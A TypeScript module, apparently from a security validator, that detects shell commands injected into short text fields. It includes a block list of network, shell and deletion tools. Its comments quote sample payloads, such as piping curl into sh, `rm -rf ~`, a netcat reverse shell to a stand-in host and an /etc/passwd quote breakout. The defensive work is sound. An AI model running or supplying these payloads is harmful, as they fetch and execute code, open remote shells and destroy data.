import { commandWordAt } from "../command-word.js";
import { findInjectedCommand } from "../injection.js";

/**
 * Programs an injected command line starts with: fetchers, shells and interpreters, raw
 * sockets, deleters, the delay and lookup of blind injection, and the usual recon.
 */
const PAYLOAD_PROGRAMS = new Set(
  "curl wget nc ncat netcat socat telnet bash sh zsh dash ksh python python2 python3 perl ruby php node powershell pwsh rm nslookup dig host sleep ping whoami id uname base64 chmod mkfifo cat ls".split(
    " ",
  ),
);
/** Readers that count only with something to read (`dog;cat` is a search for two words). */
const NEEDS_OPERAND = new Set(["cat", "ls"]);
const OPERATOR_LENGTH: Readonly<Record<string, number>> = { "&&": 2, "||": 2, "$(": 2 };

/**
 * A shell command spliced into a short field read as text (a test filter, a search pattern or
 * query): one token, then an operator and a program an injection runs (`test_*; curl x|sh`,
 * `x' ; rm -rf ~`), or a substitution that is the whole value or glued to a token
 * (`$(curl -s x|bash)`, `` `nc -e /bin/sh x 4444` ``, ``a`id`.png``). A server that builds
 * `pytest -k <filter>` or `grep <pattern>` into a shell string runs it. Regex alternations
 * (`TODO|FIXME`, `start|stop|kill`), code spans in prose (``fix: `id` column``), words before
 * the operator and a program named without arguments (`WIP; rm old code`) pass.
 */
export function hasShellInText(value: string): boolean {
  // One line break may start the command (`x\nrm -rf ~`); a multi-line value is a snippet.
  if (value.length > 300) return false;
  if (value.includes("%") && hasEncodedBreakCommand(value)) return true;
  if (value.indexOf("\n") !== value.lastIndexOf("\n")) return false;
  const hit = findInjectedCommand(value);
  if (hit === undefined) return false;
  const head = value.slice(0, hit.at).trim();
  if (/\s/.test(head)) return false;
  const op = hit.operator;
  const after = hit.at + (OPERATOR_LENGTH[op] ?? 1);
  if (op === "$(" || op === "`") {
    const close = value.indexOf(op === "`" ? "`" : ")", after);
    if (close < 0) return false;
    // Whole, or glued on both sides: a code span in prose has blanks around it.
    if (/\s/.test(value[hit.at - 1] ?? "") || /\s/.test(value[close + 1] ?? "")) return false;
  } else if (head === "" || ((op === "|" || op === "&") && value[after] !== " ")) return false;
  return runsPayloadAt(value, after);
}

/**
 * The command starting at `from` runs a payload program given something to work on: an
 * option, a path, a host, a number, a pipe, or nothing (a reader needs an operand).
 */
function runsPayloadAt(s: string, from: number): boolean {
  const word = commandWordAt(s, from);
  if (word === undefined || !PAYLOAD_PROGRAMS.has(word.name.replace(/^.*\//, ""))) return false;
  const rest = s.slice(s.indexOf(word.name, from) + word.name.length);
  return NEEDS_OPERAND.has(word.name)
    ? /[|/.$>~\d-]/.test(rest)
    : /^[\s)`'"]*$|[|/.$>~\d-]/.test(rest);
}

/** `%0A`/`%0D`, also twice encoded (`%250a`), and the blanks a form decodes (`%20`, `+`). */
const ENCODED_BREAK = /%(?:25)?0[ad]/gi;
const HAS_ENCODED_BREAK = /%(?:25)?0[ad]/i;
const ENCODED_BLANK = /%(?:25)?(?:20|09)|\+/gi;

/**
 * A line break written `%0A` then a command an injection runs (`test_x%0Aid`,
 * `main%0a/usr/bin/id`, `q%0Acurl%20x|sh`): a server that URL-decodes the value reads two
 * lines and a shell runs the second. Encoded breaks before other words (`line1%0Aline2`),
 * and values with a literal line break, pass.
 */
function hasEncodedBreakCommand(value: string): boolean {
  if (value.includes("\n") || !HAS_ENCODED_BREAK.test(value)) return false;
  const lines = value.replace(ENCODED_BLANK, " ").split(ENCODED_BREAK);
  for (let i = 1; i < lines.length; i++) if (runsPayloadAt(lines[i] as string, 0)) return true;
  return false;
}

/**
 * A search value that closes the quote a server put around it and opens it again at the end
 * (`x' /etc/passwd; echo '`, `a" && id && echo "`): exactly two quotes of a kind, an operator
 * between them, the second last, a blank or operator right after the first. A regex
 * (`'foo' | 'bar'`), a field query (`name:"A|B Testing"`) or prose ("don't; it's") differs.
 */
const QUOTE_BREAKOUT =
  /^[^'"\n]{1,80}(['"])(?=[\s;&|`$])[^'"\n]{0,200}(?:;|&&|\|\|?|`|\$\()[^'"\n]{0,200}\1\s*$/;
export function hasQuoteReopen(value: string): boolean {
  return value.length <= 400 && QUOTE_BREAKOUT.test(value);
}
